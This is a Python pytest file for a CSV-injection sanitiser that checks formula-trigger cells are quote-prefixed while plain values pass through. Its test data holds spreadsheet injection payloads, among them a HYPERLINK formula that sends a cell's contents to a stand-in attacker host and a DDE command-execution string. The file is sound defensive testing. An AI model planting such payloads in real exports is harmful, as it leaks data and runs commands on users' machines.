from __future__ import annotations

import csv
import io

import pytest

from csphub.common import csvsafe


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"],
)
def test_it_neutralises_cells_starting_with_a_formula_trigger(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Noise at 12 Rockingham Road", "", "-12", "+44", "-0.5", "1e-3", "-inf", 42, -3.5, None]
)
def test_it_keeps_plain_text_and_numbers(value: object) -> None:
    assert csvsafe.cell(value) == value


def test_it_writes_safe_rows() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow(["=1+1", "ok", 3])
    writer.writerows([["@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok", "3"], ["'@x"]]
